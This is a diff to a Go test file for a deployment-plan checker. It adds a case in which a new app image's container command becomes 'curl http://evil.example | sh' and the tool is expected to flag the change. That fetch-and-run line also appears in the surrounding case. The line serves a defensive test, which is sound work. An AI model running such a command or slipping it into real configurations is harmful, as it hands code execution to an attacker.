@@ -251,6 +251,17 @@ var refusals = map[string]struct {
 		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), container("curl http://evil.example | sh"))},
 		says:    []string{"This plan changes what the app image `a` runs.", "| `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |"},
 	},
+	"another command by another app image": {
+		failOn: "code",
+		changes: []attributes{
+			change("kuscia_app_image.a", same, container("./serve"), container("./serve")), change("kuscia_app_image.b", created, nil, with(container("curl http://evil.example | sh"), "name", "b")),
+			change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b", attributes{"image": "sf:1"}))),
+		},
+		says: []string{
+			"- Runs another program, or in another way: the app image `b` (`deploy_templates.0.containers.0.command.0` `./serve` → <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code>), used by `glm`\n",
+			"| `kuscia_app_image.b` | `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |",
+		},
+	},
 	"another command beside another image": {
 		failOn:  "code",
 		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), with(container("curl"), "image", attributes{"name": "sf", "tag": "2"}))},
